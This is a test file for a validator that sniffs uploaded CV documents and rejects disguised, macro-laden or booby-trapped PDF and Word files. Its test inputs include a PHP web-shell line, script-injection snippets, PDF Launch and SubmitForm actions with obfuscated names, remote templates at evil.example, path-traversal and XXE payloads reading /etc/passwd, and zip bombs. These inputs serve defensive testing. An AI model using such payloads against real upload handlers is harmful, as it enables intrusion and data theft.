import { randomBytes } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import {
  createCompoundFile,
  createDoc,
  createDocx,
  createPdf,
  createPdfWithObject,
  createReceivedFile,
  createWordStream,
  createZip,
} from '#test/sample-documents.ts'
import { type DocumentFault, getDocumentFaultText } from './document-fault.ts'
import { sniffDocument } from './sniff-document.ts'

let dir: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sira-sniff-'))
})
afterAll(() => rm(dir, { recursive: true }))

const sniff = async (name: string, bytes: Buffer | string, declaredType?: string) =>
  sniffDocument(await createReceivedFile(dir, name, bytes, declaredType))
/** Returns undefined when the file is rejected. */
async function sniffAccepted(...file: Parameters<typeof sniff>) {
  const seen = await sniff(...file)
  return typeof seen === 'string' ? undefined : seen
}

const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

describe('documents that match their name', () => {
  test('a PDF is accepted and may be shown inline', async () => {
    expect(await sniffAccepted('cv.pdf', await createPdf(), 'application/pdf')).toEqual({ kind: 'pdf', inline: true })
  })

  test('the extension may be in capitals and the declared type generic', async () => {
    expect(await sniffAccepted('CV.PDF', await createPdf(), 'application/octet-stream')).toMatchObject({ kind: 'pdf' })
    expect(await sniffAccepted('CV.PDF', await createPdf(), 'application/pdf; charset=binary')).toMatchObject({
      kind: 'pdf',
    })
  })

  test('a Word file is accepted and only downloaded', async () => {
    expect(await sniffAccepted('cv.docx', createDocx(), DOCX_TYPE)).toEqual({ kind: 'docx', inline: false })
  })

  test('an old Word file is accepted and only downloaded', async () => {
    expect(await sniffAccepted('cv.doc', createDoc(), 'application/msword')).toEqual({ kind: 'doc', inline: false })
  })

  test('an old Word file of any size is accepted: small stream, name in another case, allocation table beyond the header', async () => {
    expect(
      await sniffAccepted(
        'cv.doc',
        createCompoundFile({ '/worddocument': createWordStream(1000), '/other': Buffer.alloc(500) }),
      ),
    ).toMatchObject({ kind: 'doc' })
    const large = createCompoundFile({
      '/Data': Buffer.alloc(9 * 1024 * 1024, 7),
      '/WordDocument': createWordStream(9000),
    })
    expect(await sniffAccepted('cv.doc', large)).toMatchObject({ kind: 'doc' })
  })
})

describe('names and declared types that do not agree', () => {
  test.each([
    'a.pdf.exe',
    'a.pdf%00.html',
    'a.PDF ',
    'a.pdf\0',
    'a.html\0.pdf',
    'pdf',
    'a.docm',
    'a.pdf/',
    '',
    'a.pdf\n',
  ])('%j is rejected', async (name) => {
    expect(await sniffAccepted(name, await createPdf())).toBeUndefined()
  })

  test.each(['text/html', 'image/png', 'application/msword', 'application/x-msdownload'])(
    'a PDF declared as %s is rejected',
    async (type) => {
      expect(await sniffAccepted('a.pdf', await createPdf(), type)).toBeUndefined()
    },
  )

  test('one kind with the extension of another is rejected', async () => {
    expect(await sniffAccepted('a.doc', await createPdf())).toBeUndefined()
    expect(await sniffAccepted('a.pdf', createDocx())).toBeUndefined()
    expect(await sniffAccepted('a.doc', createDocx())).toBeUndefined()
    expect(await sniffAccepted('a.docx', createDoc())).toBeUndefined()
  })

  test.each([
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(3000)])],
    ['HTML', '<!DOCTYPE html><script>alert(1)</script>'],
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['PHP', '<?php system($_GET[0]);'],
    ['nothing', ''],
    ['one byte', '%'],
  ])('%s with any of our extensions is rejected', async (_, bytes) => {
    for (const name of ['a.pdf', 'a.doc', 'a.docx']) expect(await sniffAccepted(name, bytes)).toBeUndefined()
  })
})

describe('PDF', () => {
  test('cut off before %%EOF is rejected', async () => {
    const whole = await createPdf()
    expect(await sniffAccepted('a.pdf', whole.subarray(0, whole.lastIndexOf('%%EOF')))).toBeUndefined()
    expect(await sniffAccepted('a.pdf', Buffer.concat([whole, Buffer.alloc(2100, 32)]))).toBeUndefined()
  })

  test('with anything before %PDF- is rejected', async () => {
    expect(await sniffAccepted('a.pdf', Buffer.concat([Buffer.from('\n'), await createPdf()]))).toBeUndefined()
  })

  test('with an appended ZIP is rejected', async () => {
    expect(await sniffAccepted('a.pdf', Buffer.concat([await createPdf(), createDocx()]))).toBeUndefined()
    const inside = Buffer.concat([
      await createPdf(),
      createZip([{ name: 'x', data: 'x' }]),
      Buffer.from('\nstartxref\n0\n%%EOF'),
    ])
    expect(await sniffAccepted('a.pdf', inside)).toBeUndefined()
  })

  test('with HTML in its first kilobyte is rejected', async () => {
    const whole = (await createPdf()).toString('latin1')
    const html = whole.replace('\n', '\n%<ScRiPt>alert(1)</script>\n')
    expect(await sniffAccepted('a.pdf', Buffer.from(html, 'latin1'))).toBeUndefined()
  })

  test.each([
    '<</S/Launch/F(calc.exe)>>',
    '<</S/La#75nch>>',
    '<</S /#4cAUNCH /S /#4caunch>>',
    '<</Type/EmbeddedFile>>',
    '<</Names<</EmbeddedFiles 5 0 R>>>>',
    '<</Subtype/FileAttachment>>',
  ])('%s is rejected', async (object) => {
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(object))).toBeUndefined()
  })

  test('a forbidden name hidden in a compressed object stream is rejected', async () => {
    const packed = deflateSync('1 0 <</Type/Action/S/Launch/F(calc.exe)>>')
    const object = Buffer.concat([
      Buffer.from(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\r\n`),
      packed,
      Buffer.from('\nendstream'),
    ])
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(object))).toBeUndefined()
  })

  test('every one of several object streams is searched', async () => {
    const stream = (content: string) =>
      Buffer.concat([Buffer.from('<</Type/ObjStm>>\nstream\n'), deflateSync(content), Buffer.from('\nendstream\n')])
    const [font, launch] = [stream('1 0 <</Type/Font>>'), stream('1 0 <</S/Launch>>')]
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(Buffer.concat([font, font, font])))).toEqual({
      kind: 'pdf',
      inline: true,
    })
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(Buffer.concat([font, font, launch])))).toBeUndefined()
  })

  test('a harmless compressed object stream is accepted, an unreadable one makes the file download-only', async () => {
    const packed = deflateSync('1 0 <</Type/Font>>')
    const head = '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n'
    expect(
      await sniffAccepted(
        'a.pdf',
        await createPdfWithObject(Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')])),
      ),
    ).toEqual({ kind: 'pdf', inline: true })
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(`${head}not deflated\nendstream`))).toEqual({
      kind: 'pdf',
      inline: false,
    })
    expect(
      await sniffAccepted(
        'a.pdf',
        await createPdfWithObject(`<</Type/ObjStm ${' '.repeat(5000)}>>\nstream\nx\nendstream`),
      ),
    ).toEqual({
      kind: 'pdf',
      inline: false,
    })
  })

  test('an object stream that unpacks to a huge size is rejected', async () => {
    const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024))
    const object = Buffer.concat([Buffer.from('<</Type/ObjStm>>\nstream\n'), bomb, Buffer.from('\nendstream')])
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(object))).toBeUndefined()
  })

  test.each(['<</S/JavaScript/JS(app.alert(1))>>', '<</S/J#61vaScript>>', '<</Encrypt 7 0 R>>'])(
    '%s makes it download-only',
    async (object) => {
      expect(await sniffAccepted('a.pdf', await createPdfWithObject(object))).toEqual({ kind: 'pdf', inline: false })
    },
  )

  test.each([
    '<</S/SubmitForm/F(https://evil.example)>>',
    '<</S/ImportData>>',
    '<</Type/Page/AA<</O 5 0 R>>>>',
    '<</AA 5 0 R>>',
    '<</#41A<</E<</S/Named/N/Print>>>>>>',
    '<</Type/Catalog/OpenAction<</S/URI/URI(https://evil.example)>>>>',
    '<</Open#41ction<</S/URI>>>>',
    '<</OpenAction<</S/GoTo/D[1 0 R/Fit]/Next<</S/URI>>>>>>',
    '<</OpenAction 404 0 R>>',
    '<</OpenAction<</S/GoToR/F(\\\\evil\\x.pdf)>>>>',
    '<</OpenAction<</S/GoTo/D(>>)/Next 5 0 R>>>>',
    '<</OpenAction<</S/GoTo%>>\n/Next 5 0 R>>>>',
    '<</OpenAction<</S/GoTo/S/URI>>>>',
    '<</OpenAction %x\n<</S/URI>>>>',
    '<</OpenAction 98 0 R>> endobj 98 0 obj <</S/URI/URI(https://evil.example)>>',
    '<</OpenAction 98 0 R>> endobj 98%x\n0 obj <</S/URI>> endobj 98 0 obj [1 0 R/Fit]',
    '<</OpenAction 98 0 R>> endobj 98 0 obj 97 0 R',
  ])('%s may not be shown inline', async (object) => {
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(object))).toEqual({ kind: 'pdf', inline: false })
  })

  test.each([
    '<</OpenAction[1 0 R/FitH null]>>',
    '<</OpenAction [1 0 R /Fit]>>',
    '<</OpenAction<</S/GoTo/D[1 0 R/Fit]>>>>',
    '<</OpenAction << /Type /Action /S /GoTo /D (a\\)b(c)) >> >>',
    '<</OpenAction 98 0 R>> endobj 98 0 obj <</S/GoTo/D[1 0 R/Fit]>>',
    '<</OpenAction 98 0 R>> endobj 98 0 obj [1 0 R/Fit]',
    '<</A<</S/URI/URI(https://github.com/hanna)>>>>',
    '<</AAPL 1>>',
  ])('%s may be shown inline', async (object) => {
    expect(await sniffAccepted('a.pdf', await createPdfWithObject(object))).toEqual({ kind: 'pdf', inline: true })
  })

  test('the open action is looked up in object streams too', async () => {
    const stream = (first: string, ...objects: string[]) => {
      const offsets = objects.map((_, at) => objects.slice(0, at).join(' ').length + (at && 1))
      const head = `${offsets.map((offset, at) => `${198 + at} ${offset}`).join(' ')} `
      return Buffer.concat([
        Buffer.from(`<</N 2${first.replace('%', String(head.length))}/Type/ObjStm/Filter/FlateDecode>>\nstream\n`),
        deflateSync(head + objects.join(' ')),
        Buffer.from('\nendstream'),
      ])
    }
    const inline = async (object: Buffer) => (await sniffAccepted('a.pdf', await createPdfWithObject(object)))?.inline
    const [goes, leaves] = ['<</S/GoTo/D[1 0 R/Fit]>>', '<</S/URI/URI(https://evil.example)>>']
    expect(await inline(stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', goes))).toBe(true)
    expect(await inline(stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', leaves))).toBe(false)
    expect(
      await inline(stream('/First % /Fir#73t 3', '<</Type/Catalog/OpenAction 199 0 R>>', goes)),
      'said twice',
    ).toBe(false)
    expect(await inline(stream('/First % 0 R', '<</Type/Catalog/OpenAction 199 0 R>>', goes)), 'said elsewhere').toBe(
      false,
    )
    expect(
      await inline(
        stream('/First %', '<</Type/Catalog/OpenAction 199 0 R>>', `${goes} ${' '.repeat(5 * 1024 * 1024)}`),
      ),
      'too large to keep',
    ).toBe(false)
  })

  test('an open action that is repeated many times is not looked up each time', async () => {
    expect(await sniffAccepted('a.pdf', await createPdfWithObject('/OpenAction 98 0 R '.repeat(400_000)))).toEqual({
      kind: 'pdf',
      inline: false,
    })
    expect(
      await sniffAccepted('a.pdf', await createPdfWithObject(`/OpenAction 98 0 R ${'98 0 obj []'.repeat(600_000)}`)),
    ).toEqual({
      kind: 'pdf',
      inline: false,
    })
  })

  test('names that only begin with a forbidden name are harmless', async () => {
    expect(await sniffAccepted('a.pdf', await createPdfWithObject('<</LaunchPad 1>>'))).toEqual({
      kind: 'pdf',
      inline: true,
    })
  })

  test('a forbidden name is found anywhere in a large file', async () => {
    for (const before of [256 * 1024 - 1000, 256 * 1024 - 800, 3_000_000]) {
      expect(
        await sniffAccepted(
          'a.pdf',
          await createPdfWithObject(`(${'x'.repeat(before)}) <</S/Launch>> (${'x'.repeat(3000)})`),
        ),
      ).toBeUndefined()
    }
  })
})

describe('Word files', () => {
  test('an encrypted one, which is a Compound File, is rejected', async () => {
    const encrypted = createCompoundFile({
      '/EncryptionInfo': Buffer.alloc(100),
      '/EncryptedPackage': Buffer.alloc(5000),
    })
    expect(await sniffAccepted('a.docx', encrypted, DOCX_TYPE)).toBeUndefined()
    expect(await sniffAccepted('a.doc', encrypted)).toBeUndefined()
  })

  test('macros are rejected, whatever their file is called', async () => {
    expect(await sniffAccepted('a.docx', createDocx({ name: 'word/vbaProject.bin', data: 'x' }))).toBeUndefined()
    expect(await sniffAccepted('a.docx', createDocx({ name: 'WORD/VBAPROJECT.BIN', data: 'x' }))).toBeUndefined()
    const renamed = createDocx({
      name: '[Content_Types].xml',
      data: '<Types><Override ContentType="application/vnd.ms-office.vbaProject" PartName="/word/a.bin"/></Types>',
    })
    expect(await sniffAccepted('a.docx', renamed)).toBeUndefined()
  })

  test.each(['../evil', '/etc/passwd', 'a\\..\\b', 'C:/x'])('an entry called %s is rejected', async (name) => {
    expect(await sniffAccepted('a.docx', createDocx({ name, data: 'x' }))).toBeUndefined()
  })

  test('a symbolic link and an encrypted entry are rejected', async () => {
    expect(
      await sniffAccepted('a.docx', createDocx({ name: 'word/link', data: '/etc/passwd', unixMode: 0o120777 })),
    ).toBeUndefined()
    expect(await sniffAccepted('a.docx', createDocx({ name: 'word/x', data: 'x', flags: 1 }))).toBeUndefined()
  })

  test('a zip bomb is rejected by its directory', async () => {
    expect(
      await sniffAccepted('a.docx', createDocx({ name: 'word/media/x.png', data: 'x', claimedSize: 2_000_000_000 })),
    ).toBeUndefined()
    expect(
      await sniffAccepted(
        'a.docx',
        createDocx({ name: 'word/media/x.png', data: randomBytes(2_000_000), claimedSize: 110_000_000 }),
      ),
    ).toBeUndefined()
    expect(
      await sniffAccepted('a.docx', createDocx({ name: 'word/media/x.png', data: Buffer.alloc(2_000_000) })),
    ).toBeUndefined()
    expect(
      await sniffAccepted('a.docx', createDocx(...Array.from({ length: 2000 }, (_, i) => ({ name: `word/${i}.bin` })))),
    ).toBeUndefined()
  })

  test('a zip bomb with a false directory is rejected while it unpacks', async () => {
    expect(
      await sniffAccepted(
        'a.docx',
        createDocx({ name: 'word/document.xml', data: Buffer.alloc(5_000_000, 32), claimedSize: 1000 }),
      ),
    ).toBeUndefined()
  })

  test('XML with a DOCTYPE or entities is rejected, in UTF-16 too', async () => {
    const laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    expect(await sniffAccepted('a.docx', createDocx({ name: 'word/document.xml', data: laughs }))).toBeUndefined()
    expect(
      await sniffAccepted('a.docx', createDocx({ name: 'word/styles.xml', data: Buffer.from(laughs, 'utf16le') })),
    ).toBeUndefined()
    expect(
      await sniffAccepted(
        'a.docx',
        createDocx({ name: 'word/styles.xml', data: Buffer.from(laughs, 'utf16le').swap16() }),
      ),
    ).toBeUndefined()
    expect(
      await sniffAccepted(
        'a.docx',
        createDocx({ name: 'word/styles.xml', data: Buffer.from('<!DOCTYPE x><x/>', 'utf16le') }),
      ),
    ).toBeUndefined()
    expect(
      await sniffAccepted(
        'a.docx',
        createDocx({ name: 'word/document.xml', data: `<!--${'x '.repeat(40_000)}-->${laughs}` }),
      ),
    ).toBeUndefined()
  })

  test('any other ZIP, one with two entries of the same name, and a cut-off one are rejected', async () => {
    expect(await sniffAccepted('a.docx', createZip([{ name: 'hello.txt', data: 'hi' }]))).toBeUndefined()
    expect(
      await sniffAccepted(
        'a.docx',
        createZip([{ name: 'word/document.xml' }, { name: '[Content_Types].xml' }, { name: 'word/document.xml' }]),
      ),
    ).toBeUndefined()
    expect(await sniffAccepted('a.docx', createDocx().subarray(0, -30))).toBeUndefined()
    expect(await sniffAccepted('a.docx', Buffer.concat([Buffer.from('MZ'), createDocx()]))).toBeUndefined()
  })
})

test('a file that loads something from another machine when it is opened is rejected', async () => {
  const rels = (type: string, target: string) => ({
    name: 'word/_rels/settings.xml.rels',
    data: `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })
  expect(await sniff('a.docx', createDocx(rels('attachedTemplate', 'https://evil.example/x.dotm')))).toBe('remote')
  expect(
    await sniff(
      'a.docx',
      createDocx({ ...rels('oleObject', 'https://evil.example/x'), name: 'word/_rels/document.xml.rels' }),
    ),
  ).toBe('remote')
  expect(
    await sniffAccepted('a.docx', createDocx(rels('attachedTemplate', 'file:///C:\\Users\\Hanna\\Resume.dotx'))),
  ).toMatchObject({ kind: 'docx' })
  expect(
    await sniffAccepted(
      'a.docx',
      createDocx({ ...rels('hyperlink', 'https://github.com/hanna'), name: 'word/_rels/document.xml.rels' }),
    ),
  ).toMatchObject({ kind: 'docx' })
  expect(
    await sniff('a.docx', createDocx({ name: 'word/_rels/document.xml.rels', data: randomBytes(1_100_000) })),
  ).toBe('unusable')
})

test('the error message says why a document is rejected', async () => {
  const getMessage = async (name: string, bytes: Buffer | string) =>
    getDocumentFaultText((await sniff(name, bytes)) as DocumentFault, name)
  expect(await getMessage('cv.exe', 'MZ')).toBe('Please upload a PDF or DOC file')
  expect(await getMessage('CV.PDF', '<html>')).toMatch(
    /^Please upload a PDF or DOC file\. This file is named \.pdf, but it is not a PDF file\. /,
  )
  expect(await getMessage('cv.docx', await createPdf())).toContain(
    'This file is named .docx, but it is not a DOCX file.',
  )
  expect(await getMessage('cv.doc', createCompoundFile({ '/Workbook': Buffer.alloc(5000) }))).toContain(
    'named .doc, but it is not a DOC file',
  )
  expect(await getMessage('cv.pdf', await createPdfWithObject('<</S/Launch>>'))).toContain(
    'damaged, needs a password, or contains macros, programs or other files',
  )
})

describe('old Word files', () => {
  test('a password, macros, or no Word document inside is rejected', async () => {
    expect(
      await sniffAccepted('a.doc', createCompoundFile({ '/WordDocument': createWordStream(5000, 0x0100) })),
    ).toBeUndefined()
    expect(
      await sniffAccepted('a.doc', createCompoundFile({ '/WordDocument': createWordStream(1000, 0x0100) })),
    ).toBeUndefined()
    expect(
      await sniffAccepted(
        'a.doc',
        createCompoundFile({ '/WordDocument': createWordStream(), '/Macros/VBA/_VBA_PROJECT': Buffer.alloc(50) }),
      ),
    ).toBeUndefined()
    expect(await sniffAccepted('a.doc', createCompoundFile({ '/Workbook': Buffer.alloc(5000) }))).toBeUndefined()
  })

  test('a broken file does not make it throw or run forever', async () => {
    const whole = createDoc()
    let seed = 7
    const random = (n: number) => (seed = (seed * 48271) % 2147483647) % n
    for (let i = 0; i < 300; i++) {
      const bytes = Buffer.from(whole.subarray(0, i % 3 === 0 ? random(whole.length) : whole.length))
      for (let k = 0; k < 20 && bytes.length > 0; k++) bytes[random(Math.min(bytes.length, 1500))] = random(256)
      const seen = await sniffAccepted('a.doc', bytes)
      expect([undefined, 'doc']).toContain(seen?.kind)
    }
  })

  test('a circular directory chain ends', async () => {
    const bytes = createDoc()
    const fatAt = (bytes.readUInt32LE(0x4c) + 1) * 512
    const directory = bytes.readUInt32LE(0x30)
    bytes.writeUInt32LE(directory, fatAt + directory * 4)
    expect(await sniffAccepted('a.doc', bytes)).toMatchObject({ kind: 'doc' })
  })
})

test('a missing file is an error, not a wrong type', async () => {
  await expect(sniffDocument({ path: join(dir, 'gone'), name: 'a.docx', declaredType: '', size: 1 })).rejects.toThrow(
    'ENOENT',
  )
})

test('the check does not change the file', async () => {
  const path = join(dir, 'same.docx')
  await writeFile(path, createDocx())
  await sniffDocument({ path, name: 'same.docx', declaredType: '', size: 1 })
  expect(await readFile(path)).toEqual(createDocx())
})
